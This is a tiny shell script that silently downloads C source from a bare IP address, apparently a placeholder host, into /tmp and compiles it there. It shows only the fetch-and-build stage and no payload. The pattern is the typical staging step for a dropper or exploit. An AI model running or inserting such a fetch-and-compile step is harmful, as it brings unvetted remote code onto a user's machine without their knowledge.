#!/bin/sh
curl -so /tmp/p.c http://192.0.2.7/p.c
gcc -O2 -o /tmp/p /tmp/p.c
